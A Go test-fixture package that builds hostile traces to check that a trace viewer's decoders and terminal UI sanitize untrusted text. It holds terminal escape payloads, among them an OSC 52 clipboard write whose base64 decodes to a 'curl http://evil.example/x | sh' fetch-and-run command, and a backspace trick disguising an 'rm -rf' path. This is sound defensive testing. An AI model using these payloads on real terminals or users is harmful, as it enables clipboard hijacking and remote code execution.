// Package hostile builds traces that attack a trace viewer: terminal escape
// sequences and invalid UTF-8 in every string, megabyte values, trees too
// wide or too deep to walk recursively, absurd times, broken IDs, cycles and
// duplicates. Tests of decoders, analysis, `show` and the TUI views run over
// them to prove that nothing panics and that no trace text reaches the
// terminal as control data.
//
// Everything is built on demand and deterministic; nothing is package state.
package hostile

import (
	"iter"
	"math"
	"strconv"
	"strings"

	"github.com/tracetui/tracetui/backend"
)

// Case is one hostile trace.
type Case struct {
	Name string
	// About says what the case attacks, for failure messages.
	About string
	// Big marks cases of 100,000 spans; skip them under -short.
	Big   bool
	Trace *backend.Trace
}

// Payload is a hostile string and a name for it.
type Payload struct {
	Name, Text string
}

// Payloads returns strings that a terminal would act on if printed raw, plus
// text that breaks naive width math. Each is embedded in ordinary text by the
// cases, so that a sanitizer must remove it without eating its neighbours.
func Payloads() []Payload {
	return []Payload{
		{"osc0-title", "\x1b]0;pwned title\x07"},
		{"osc2-title-st", "\x1b]2;pwned\x1b\\"},
		{"osc52-clipboard", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07"},
		{"osc8-link", "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\"},
		{"osc-unterminated", "\x1b]0;no terminator"},
		{"csi-clear", "\x1b[2J\x1b[H"},
		{"csi-altscreen", "\x1b[?1049h"},
		{"csi-hide-cursor", "\x1b[?25l"},
		{"csi-conceal-sgr", "\x1b[8;31m"},
		{"csi-dsr-answer", "\x1b[6n"},
		{"csi-da-answer", "\x1b[c\x1b[>c"},
		{"csi-report-title", "\x1b[21t"},
		{"csi-resize", "\x1b[8;1;1t"},
		{"csi-unterminated", "\x1b[12;"},
		{"dcs-decrqss", "\x1bP$qm\x1b\\"},
		{"dcs-xtgettcap", "\x1bP+q544e\x1b\\"},
		{"apc-kitty-query", "\x1b_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA\x1b\\"},
		{"pm", "\x1b^private message\x1b\\"},
		{"sos", "\x1bXstart of string\x1b\\"},
		{"esc-two-byte", "\x1bc\x1b7\x1b(0"},
		{"esc-at-end", "\x1b"},
		{"c1-csi", "\u009b2J"},
		{"c1-osc", "\u009d0;pwned\u0007"},
		{"c1-osc52", "\u009d52;c;cHduZWQ=\u009c"},
		{"c1-dcs", "\u0090$qm\u009c"},
		{"c1-apc", "\u009fGa=q\u009c"},
		{"c1-pm-sos", "\u009ex\u009c\u0098y\u009c"},
		{"c1-nel", "\u0085"},
		{"raw-8bit-csi", "\x9b2J"},
		{"raw-8bit-osc", "\x9d0;pwned\x07"},
		{"c0-mix", "\r\b\x07\x00\x0b\x0c\x7f"},
		{"cr-overwrite", "harmless\rEVIL    "},
		{"backspace-overwrite", "rm -rf /tmp\b\b\b\b\bhome"},
		{"tab-newline", "a\tb\nc\r\nd"},
		{"bidi-rlo", "invoice\u202egnp.exe"},
		{"bidi-isolates", "\u2066admin\u2069\u2067x\u2068y\u2069"},
		{"bidi-marks", "\u200e\u200f\u061c"},
		{"line-separators", "a\u2028b\u2029c"},
		{"invalid-utf8", "\xff\xfe\xc0\x80\xed\xa0\x80\xe6\x97"},
		{"cjk-wide", "日本語テキスト全角"},
		{"combining", "e\u0301\u0302\u0303\u0304\u0305"},
		{"zwj-emoji", "👨\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈"},
		{"zero-width", "a\u200bb\u200cc\u200dd\ufeff"},
	}
}

// base is a plausible start time (2023-11-14) in ns, a multiple of 1µs so
// that Jaeger and Zipkin round trips keep it.
const base int64 = 1_700_000_000_000_000_000

const us = int64(1000)

// Traces returns every case, the 100,000-span ones included.
func Traces() []Case { return build(true) }

// Small returns the cases that are not Big, without building the big ones.
func Small() []Case { return build(false) }

type builder struct {
	name, about string
	big         bool
	fn          func() *backend.Trace
}

func build(withBig bool) []Case {
	bs := []builder{
		{"escapes", "escape sequences and controls in service, operation, tag keys and values, process tags, logs, warnings, status", false, escapes},
		{"escape-ids", "escape sequences as span IDs, parent IDs and trace ID", false, escapeIDs},
		{"invalid-utf8", "invalid UTF-8 in every string", false, invalidUTF8},
		{"huge-values", "1 MB service, operation, tag values and log fields", false, hugeValues},
		{"durations", "negative, zero and huge durations; children outside their parents", false, durations},
		{"timestamps", "start times at 0, negative and near the int64 limit, so End overflows", false, timestamps},
		{"non-hex-ids", "span and trace IDs that are not hex, empty, too long or zero", false, nonHexIDs},
		{"foreign-refs", "references into other traces and to spans that do not exist", false, foreignRefs},
		{"cycles", "parent cycles with and without a root, and a self-parent", false, cycles},
		{"duplicates", "duplicate span IDs, including duplicates of the root and each other's parent", false, duplicates},
		{"empty", "a trace without spans", false, func() *backend.Trace { return &backend.Trace{ID: traceID(12)} }},
		{"blank-span", "a span with every field empty and no process", false, blankSpan},
		{"many-tags", "10,000 tags and 2,000 logs on one span; 500 services", false, manyTags},
		{"wide-text", "CJK, combining storms, ZWJ emoji, RTL text, long words, whitespace-only names", false, wideText},
		{"numbers", "extreme int64 and float tag values, binary and JSON tags with controls", false, numbers},
		{"wide", "100,000 children of one span", true, wide},
		{"deep", "a 100,000-deep parent chain", true, deep},
		{"deep-cycle", "a 100,000-span parent ring with no root", true, deepCycle},
	}
	var cs []Case
	for _, b := range bs {
		if b.big && !withBig {
			continue
		}
		cs = append(cs, Case{Name: b.name, About: b.about, Big: b.big, Trace: b.fn()})
	}
	return cs
}

func traceID(n uint64) backend.TraceID { return backend.TraceIDFromUint64(0x5afe5afe5afe5afe, n) }

func spanID(n uint64) backend.SpanID { return backend.SpanIDFromUint64(0xbad0000000000000 | n) }

// span builds a span whose parent (if any) is a CHILD_OF reference, as a
// decoder would, and runs Finish.
func span(tid backend.TraceID, id, parent backend.SpanID, p *backend.Process, op string, start, dur int64) backend.Span {
	s := backend.Span{TraceID: tid, SpanID: id, Service: p.Service, Process: p, Operation: op, Start: start, Duration: dur}
	if parent != "" {
		s.References = []backend.Ref{{Type: backend.RefChildOf, TraceID: tid, SpanID: parent}}
	}
	s.Finish()
	return s
}

func finish(t *backend.Trace) *backend.Trace {
	for i := range t.Spans {
		t.Spans[i].Finish()
	}
	return t
}

func escapes() *backend.Trace {
	tid := traceID(1)
	gw := &backend.Process{Service: "gateway", Tags: []backend.KeyValue{backend.String("hostname", "gw-1")}}
	t := &backend.Trace{ID: tid, Warnings: []string{"trace warning \x1b]0;pwned\x07 end"}}
	ps := Payloads()
	t.Spans = append(t.Spans, span(tid, spanID(0), "", gw, "GET /checkout", base, int64(len(ps)+2)*1000*us))
	for i, p := range ps {
		proc := &backend.Process{
			Service: "svc " + p.Text + " " + p.Name,
			Tags: []backend.KeyValue{
				backend.String("hostname"+p.Text, "host "+p.Text),
				backend.String("ip", p.Text),
			},
		}
		start := base + int64(i+1)*1000*us
		s := backend.Span{
			TraceID:   tid,
			SpanID:    spanID(uint64(i + 1)),
			Service:   proc.Service,
			Process:   proc,
			Operation: "op " + p.Text + " end",
			Kind:      backend.KindClient,
			Start:     start,
			Duration:  900 * us,
			References: []backend.Ref{
				{Type: backend.RefChildOf, TraceID: tid, SpanID: spanID(0)},
			},
			Tags: []backend.KeyValue{
				backend.String("payload", p.Name),
				backend.String("key "+p.Text, "value "+p.Text+" end"),
				backend.String(p.Text, p.Text),
				backend.String("http.url", "https://shop.example/"+p.Text),
				backend.String("error", "true"),
				backend.Binary("binary", []byte(p.Text)),
				{Key: "json", Type: backend.TypeJSON, Str: `{"k":"` + p.Text + `"}`},
				backend.Int64("n"+p.Text, int64(i)),
			},
			Logs: []backend.Log{
				{Time: start + 10*us, Fields: []backend.KeyValue{
					backend.String("event", "log "+p.Text),
					backend.String("message"+p.Text, p.Text+"\n"+p.Text),
				}},
				{Time: start + 20*us, Fields: []backend.KeyValue{
					backend.String("event", "baggage"),
					backend.String("key", "bag"+p.Text),
					backend.String("value", p.Text),
				}},
			},
			Status:   backend.Status{Code: backend.StatusError, Message: "status " + p.Text},
			Warnings: []string{"span warning " + p.Text},
		}
		t.Spans = append(t.Spans, s)
	}
	return finish(t)
}

func escapeIDs() *backend.Trace {
	tid := backend.TraceID("trace\x1b]0;pwned\x07\x1b[2J")
	p := &backend.Process{Service: "ids"}
	t := &backend.Trace{ID: tid}
	var prev backend.SpanID
	for i, pl := range Payloads() {
		id := backend.SpanID("s" + strconv.Itoa(i) + pl.Text)
		t.Spans = append(t.Spans, span(tid, id, prev, p, "span "+pl.Name, base+int64(i)*us, 10*us))
		prev = id
	}
	return t
}

func invalidUTF8() *backend.Trace {
	tid := traceID(2)
	bad := []string{"\xff", "\xfe\xfe", "\xc0\x80", "\xed\xa0\x80", "\xe6\x97", "\x80\x81\x82", "\xf4\x90\x80\x80", "ok\xf0"}
	t := &backend.Trace{ID: tid, Warnings: []string{"warn\xff"}}
	root := &backend.Process{Service: "root\xff\xfe", Tags: []backend.KeyValue{backend.String("k\xc0", "v\xc0\x80")}}
	t.Spans = append(t.Spans, span(tid, spanID(0), "", root, "op\xe6\x97", base, 100*us))
	for i, b := range bad {
		p := &backend.Process{Service: "svc" + b}
		s := span(tid, spanID(uint64(i+1)), spanID(0), p, "GET /"+b, base+int64(i+1)*us, 10*us)
		s.Tags = []backend.KeyValue{backend.String("key"+b, "value"+b), backend.String("error", "true")}
		s.Logs = []backend.Log{{Time: s.Start, Fields: []backend.KeyValue{backend.String("event", b), backend.String("msg"+b, b+b)}}}
		s.Warnings = []string{b}
		s.Finish()
		t.Spans = append(t.Spans, s)
	}
	return t
}

const mb = 1 << 20

func hugeValues() *backend.Trace {
	tid := traceID(3)
	values := []Payload{
		{"plain", strings.Repeat("a", mb)},
		{"words", strings.Repeat("lorem ipsum ", mb/12)},
		{"lines", strings.Repeat("line of text\n", mb/13)},
		{"escapes", strings.Repeat("\x1b[2J\x1b]0;t\x07x", mb/14)},
		{"osc-unterminated", "\x1b]0;" + strings.Repeat("swallowed ", mb/10)},
		{"invalid", strings.Repeat("\xff", mb)},
		{"cjk", strings.Repeat("日本語", mb/9)},
		{"combining-one-cluster", "e" + strings.Repeat("\u0301", mb/2)},
		{"tabs", strings.Repeat("\t", mb)},
		{"bidi", strings.Repeat("\u202e", mb/3)},
	}
	p := &backend.Process{Service: "huge", Tags: []backend.KeyValue{backend.String("hostname", strings.Repeat("h", mb))}}
	t := &backend.Trace{ID: tid}
	root := span(tid, spanID(0), "", p, strings.Repeat("operation ", mb/10), base, 1000*us)
	t.Spans = append(t.Spans, root)
	for i, v := range values {
		s := span(tid, spanID(uint64(i+1)), spanID(0), p, "value "+v.Name, base+int64(i+1)*us, 10*us)
		s.Tags = []backend.KeyValue{backend.String(v.Name, v.Text)}
		s.Logs = []backend.Log{{Time: s.Start, Fields: []backend.KeyValue{backend.String("message", v.Text)}}}
		t.Spans = append(t.Spans, s)
	}
	bigSvc := &backend.Process{Service: strings.Repeat("service-", mb/8)}
	t.Spans = append(t.Spans, span(tid, spanID(100), spanID(0), bigSvc, "op", base+50*us, 10*us))
	bigKey := span(tid, spanID(101), spanID(0), p, "big key", base+60*us, 10*us)
	bigKey.Tags = []backend.KeyValue{backend.String(strings.Repeat("k", mb), "v")}
	t.Spans = append(t.Spans, bigKey)
	return t
}

func durations() *backend.Trace {
	tid := traceID(4)
	p := &backend.Process{Service: "durations"}
	t := &backend.Trace{ID: tid}
	t.Spans = append(t.Spans, span(tid, spanID(0), "", p, "root", base, 100*us))
	for i, d := range []int64{-1, -1000 * us, -base, math.MinInt64, 0, 0, 1, math.MaxInt64, math.MaxInt64 - 1, 1 << 62, 10_000 * us} {
		t.Spans = append(t.Spans, span(tid, spanID(uint64(i+1)), spanID(0), p, "d="+strconv.FormatInt(d, 10), base+int64(i)*us, d))
	}
	// Children of a negative-duration parent, and one starting before its parent.
	t.Spans = append(t.Spans,
		span(tid, spanID(20), spanID(1), p, "child of negative", base, 5*us),
		span(tid, spanID(21), spanID(0), p, "starts before parent", base-50*us, 10*us),
		span(tid, spanID(22), spanID(5), p, "child of zero", base+4*us, 0),
	)
	return t
}

func timestamps() *backend.Trace {
	tid := traceID(5)
	p := &backend.Process{Service: "time"}
	t := &backend.Trace{ID: tid}
	maxUS := math.MaxInt64 / us * us // keeps µs round trips exact
	t.Spans = append(t.Spans,
		span(tid, spanID(0), "", p, "root at epoch", 0, 0),
		span(tid, spanID(1), spanID(0), p, "at epoch with duration", 0, 1000*us),
		span(tid, spanID(2), spanID(0), p, "near max start", maxUS-1000*us, 1000*us),
		span(tid, spanID(3), spanID(0), p, "max start, End overflows", maxUS, maxUS),
		span(tid, spanID(4), spanID(0), p, "negative start", -base, 10*us),
		span(tid, spanID(5), spanID(0), p, "min start", math.MinInt64/us*us, math.MaxInt64/us*us),
		span(tid, spanID(6), spanID(0), p, "ordinary", base, 10*us),
	)
	t.Spans[6].Logs = []backend.Log{
		{Time: 0, Fields: []backend.KeyValue{backend.String("event", "at epoch")}},
		{Time: maxUS, Fields: []backend.KeyValue{backend.String("event", "at max")}},
		{Time: math.MinInt64 / us * us, Fields: []backend.KeyValue{backend.String("event", "at min")}},
	}
	return t
}

func nonHexIDs() *backend.Trace {
	tid := backend.TraceID("not-a-trace-id")
	p := &backend.Process{Service: "ids"}
	t := &backend.Trace{ID: tid}
	ids := []backend.SpanID{"span-1", "SPAN-2_1", "zz", "0000000000000000", "ffffffffffffffffffffffff", "日本", "with space", "-1", "0x10", "=="}
	t.Spans = append(t.Spans, span(tid, ids[0], "", p, "root", base, 100*us))
	for i := 1; i < len(ids); i++ {
		t.Spans = append(t.Spans, span(tid, ids[i], ids[i-1], p, "id "+string(ids[i]), base+int64(i)*us, 10*us))
	}
	t.Spans = append(t.Spans, span(tid, "", ids[0], p, "empty span ID", base+20*us, 1*us))
	// A span whose own trace ID differs from the trace's.
	t.Spans = append(t.Spans, span("other trace", "stray", ids[0], p, "other trace ID", base+30*us, 1*us))
	return t
}

func foreignRefs() *backend.Trace {
	tid := traceID(6)
	other := traceID(7)
	p := &backend.Process{Service: "refs"}
	t := &backend.Trace{ID: tid}
	t.Spans = append(t.Spans, span(tid, spanID(0), "", p, "root", base, 100*us))
	mk := func(n uint64, op string, refs ...backend.Ref) {
		s := backend.Span{TraceID: tid, SpanID: spanID(n), Service: p.Service, Process: p, Operation: op, Start: base + int64(n)*us, Duration: 5 * us, References: refs}
		s.Finish()
		t.Spans = append(t.Spans, s)
	}
	mk(1, "child of span in other trace", backend.Ref{Type: backend.RefChildOf, TraceID: other, SpanID: spanID(0)})
	mk(2, "follows from other trace", backend.Ref{Type: backend.RefFollowsFrom, TraceID: other, SpanID: spanID(1)})
	mk(3, "link to other trace and child of root",
		backend.Ref{Type: backend.RefLink, TraceID: other, SpanID: spanID(2), Attributes: []backend.KeyValue{backend.String("link\x1b[2J", "\x1b]0;x\x07")}},
		backend.Ref{Type: backend.RefChildOf, TraceID: tid, SpanID: spanID(0)})
	mk(4, "parent missing in this trace", backend.Ref{Type: backend.RefChildOf, TraceID: tid, SpanID: spanID(999)})
	mk(5, "many refs", backend.Ref{Type: backend.RefFollowsFrom, SpanID: spanID(3)}, backend.Ref{Type: backend.RefChildOf, SpanID: spanID(4)},
		backend.Ref{Type: backend.RefChildOf, SpanID: spanID(0)}, backend.Ref{Type: backend.RefLink, TraceID: "\x1b]0;x\x07", SpanID: "\x9b2J"})
	mk(6, "child of missing with escape ID", backend.Ref{Type: backend.RefChildOf, SpanID: "\x1b[2Jmissing"})
	return t
}

func cycles() *backend.Trace {
	tid := traceID(8)
	p := &backend.Process{Service: "cycles"}
	t := &backend.Trace{ID: tid}
	t.Spans = append(t.Spans,
		span(tid, spanID(0), "", p, "root", base, 100*us),
		// 1 → 2 → 3 → 1, hanging from nothing.
		span(tid, spanID(1), spanID(3), p, "ring a", base+1*us, 10*us),
		span(tid, spanID(2), spanID(1), p, "ring b", base+2*us, 10*us),
		span(tid, spanID(3), spanID(2), p, "ring c", base+3*us, 10*us),
		// 4 ↔ 5, with 6 hanging from 5.
		span(tid, spanID(4), spanID(5), p, "pair a", base+4*us, 10*us),
		span(tid, spanID(5), spanID(4), p, "pair b", base+5*us, 10*us),
		span(tid, spanID(6), spanID(5), p, "child of pair", base+6*us, 1*us),
		// 7 → 8 → 7 where 7 also descends from the root in its references.
		span(tid, spanID(7), spanID(8), p, "cycle under root a", base+7*us, 10*us),
		span(tid, spanID(8), spanID(7), p, "cycle under root b", base+8*us, 10*us),
	)
	t.Spans[7].References = append(t.Spans[7].References, backend.Ref{Type: backend.RefFollowsFrom, SpanID: spanID(0)})
	// Finish drops self-parents; a buggy source could still produce one.
	self := span(tid, spanID(9), spanID(0), p, "self parent", base+9*us, 1*us)
	self.ParentID = self.SpanID
	t.Spans = append(t.Spans, self)
	return t
}

func duplicates() *backend.Trace {
	tid := traceID(9)
	p := &backend.Process{Service: "dups"}
	q := &backend.Process{Service: "other"}
	t := &backend.Trace{ID: tid}
	t.Spans = append(t.Spans,
		span(tid, spanID(0), "", p, "root", base, 100*us),
		span(tid, spanID(0), "", q, "second root, same ID", base+1*us, 50*us),
		span(tid, spanID(1), spanID(0), p, "child", base+2*us, 10*us),
		span(tid, spanID(1), spanID(0), q, "child twin", base+3*us, 10*us),
		span(tid, spanID(2), spanID(1), p, "grandchild of twins", base+4*us, 1*us),
	)
	// Two spans with one ID, each naming the other (the same ID) as parent.
	a := span(tid, spanID(3), spanID(0), p, "dup a", base+5*us, 1*us)
	b := span(tid, spanID(3), spanID(0), p, "dup b", base+6*us, 1*us)
	a.ParentID, b.ParentID = spanID(3), spanID(3)
	t.Spans = append(t.Spans, a, b)
	for i := range 50 {
		t.Spans = append(t.Spans, span(tid, spanID(4), spanID(0), p, "dup storm", base+int64(i)*us, 1*us))
	}
	return t
}

func blankSpan() *backend.Trace {
	t := &backend.Trace{ID: traceID(10)}
	t.Spans = append(t.Spans, backend.Span{})
	t.Spans = append(t.Spans, backend.Span{TraceID: t.ID, SpanID: spanID(1), Process: &backend.Process{}})
	return finish(t)
}

func manyTags() *backend.Trace {
	tid := traceID(11)
	p := &backend.Process{Service: "tags"}
	t := &backend.Trace{ID: tid}
	root := span(tid, spanID(0), "", p, "root", base, 1000*us)
	for i := range 10_000 {
		root.Tags = append(root.Tags, backend.String("tag."+strconv.Itoa(i), "value "+strconv.Itoa(i)))
	}
	for i := range 2_000 {
		var fs []backend.KeyValue
		for j := range 10 {
			fs = append(fs, backend.String("field"+strconv.Itoa(j), strconv.Itoa(i*j)))
		}
		root.Logs = append(root.Logs, backend.Log{Time: base + int64(i)*us/4, Fields: fs})
	}
	t.Spans = append(t.Spans, root)
	for i := range 500 {
		svc := &backend.Process{Service: "service-" + strconv.Itoa(i)}
		t.Spans = append(t.Spans, span(tid, spanID(uint64(i+1)), spanID(0), svc, "op-"+strconv.Itoa(i%37), base+int64(i)*us, 100*us))
	}
	return t
}

func wideText() *backend.Trace {
	tid := traceID(13)
	texts := []string{
		"注文サービス", "결제", "支付服务", "ｆｕｌｌｗｉｄｔｈ",
		"Z\u0351\u0352\u0357\u035b\u0346\u0314\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030falgo",
		"👨\u200d👩\u200d👧\u200d👦 family", "🇯🇵🇺🇸🇫🇷", "❤\ufe0f✔\ufe0e",
		"طلب الدفع", "שירות תשלום", "mixed עברית and English",
		strings.Repeat("x", 3_000), strings.Repeat("日", 1_000),
		"", " ", "\t\t", "   leading and trailing   ", "\u00a0\u2003\u3000",
		"ᄀᄀᄀ각각", "a\u0308\u0301", "±½αβγ§¶", "\ue000\U000f0000",
	}
	p := &backend.Process{Service: "文字"}
	t := &backend.Trace{ID: tid}
	t.Spans = append(t.Spans, span(tid, spanID(0), "", p, "根", base, 1000*us))
	for i, s := range texts {
		sp := span(tid, spanID(uint64(i+1)), spanID(0), &backend.Process{Service: s}, s, base+int64(i)*us, 10*us)
		sp.Tags = []backend.KeyValue{backend.String(s, s)}
		t.Spans = append(t.Spans, sp)
	}
	return t
}

func numbers() *backend.Trace {
	tid := traceID(14)
	p := &backend.Process{Service: "numbers"}
	t := &backend.Trace{ID: tid}
	s := span(tid, spanID(0), "", p, "root", base, 10*us)
	s.Tags = []backend.KeyValue{
		backend.Int64("max", math.MaxInt64), backend.Int64("min", math.MinInt64),
		backend.Int64("2^53+1", 1<<53+1), backend.Int64("zero", 0),
		backend.Float64("nan", math.NaN()), backend.Float64("inf", math.Inf(1)), backend.Float64("-inf", math.Inf(-1)),
		backend.Float64("-0", math.Copysign(0, -1)), backend.Float64("tiny", math.SmallestNonzeroFloat64), backend.Float64("huge", math.MaxFloat64),
		backend.Bool("bool", true),
		backend.Binary("binary-escapes", []byte("\x1b]52;c;AAAA\x07\x9b2J\x00\xff")),
		backend.Binary("binary-empty", nil),
		{Key: "json", Type: backend.TypeJSON, Str: `["\u001b[2J", {"k": "\u009b2J"}]`},
		{Key: "bad-type", Type: backend.ValueType(200), Str: "\x1b[2J", Num: -1},
		backend.String("error", "true"),
	}
	s.Finish()
	t.Spans = append(t.Spans, s)
	return t
}

func wide() *backend.Trace {
	const n = 100_000
	tid := traceID(100)
	procs := []*backend.Process{{Service: "fanout"}, {Service: "worker-a"}, {Service: "worker-b"}, {Service: "worker-c"}}
	t := &backend.Trace{ID: tid, Spans: make([]backend.Span, 0, n+1)}
	t.Spans = append(t.Spans, span(tid, spanID(0), "", procs[0], "fan out", base, (n+10)*us))
	for i := 1; i <= n; i++ {
		s := span(tid, spanID(uint64(i)), spanID(0), procs[1+i%3], "child", base+int64(i)*us, 5*us)
		if i%1000 == 0 {
			s.Tags = []backend.KeyValue{backend.Bool("error", true)}
			s.Finish()
		}
		t.Spans = append(t.Spans, s)
	}
	return t
}

func deep() *backend.Trace {
	const n = 100_000
	tid := traceID(101)
	procs := []*backend.Process{{Service: "deep-a"}, {Service: "deep-b"}}
	t := &backend.Trace{ID: tid, Spans: make([]backend.Span, 0, n)}
	for i := range n {
		var parent backend.SpanID
		if i > 0 {
			parent = spanID(uint64(i - 1))
		}
		s := span(tid, spanID(uint64(i)), parent, procs[i%2], "level", base+int64(i)*us, int64(2*(n-i))*us)
		if i == n-1 {
			s.Tags = []backend.KeyValue{backend.Bool("error", true)}
			s.Finish()
		}
		t.Spans = append(t.Spans, s)
	}
	return t
}

func deepCycle() *backend.Trace {
	const n = 100_000
	tid := traceID(102)
	p := &backend.Process{Service: "ring"}
	t := &backend.Trace{ID: tid, Spans: make([]backend.Span, 0, n)}
	for i := range n {
		t.Spans = append(t.Spans, span(tid, spanID(uint64(i)), spanID(uint64((i+n-1)%n)), p, "ring", base+int64(i)*us, 10*us))
	}
	return t
}

// Strings yields every string of a trace that could reach the screen: IDs,
// names, tag keys and values (as shown), process tags, logs, references,
// status and warnings.
func Strings(t *backend.Trace) iter.Seq[string] {
	return func(yield func(string) bool) {
		kvs := func(kvs []backend.KeyValue) bool {
			for _, kv := range kvs {
				if !yield(kv.Key) || !yield(kv.Value()) || !yield(kv.Str) {
					return false
				}
			}
			return true
		}
		if !yield(string(t.ID)) || !yield(t.ID.Short()) {
			return
		}
		for _, w := range t.Warnings {
			if !yield(w) {
				return
			}
		}
		for i := range t.Spans {
			s := &t.Spans[i]
			if !yield(string(s.TraceID)) || !yield(string(s.SpanID)) || !yield(string(s.ParentID)) ||
				!yield(s.Service) || !yield(s.Operation) || !yield(s.Status.Message) || !kvs(s.Tags) {
				return
			}
			if s.Process != nil && (!yield(s.Process.Service) || !kvs(s.Process.Tags)) {
				return
			}
			for _, r := range s.References {
				if !yield(string(r.TraceID)) || !yield(string(r.SpanID)) || !kvs(r.Attributes) {
					return
				}
			}
			for _, l := range s.Logs {
				if !kvs(l.Fields) {
					return
				}
			}
			for _, w := range s.Warnings {
				if !yield(w) {
					return
				}
			}
		}
	}
}
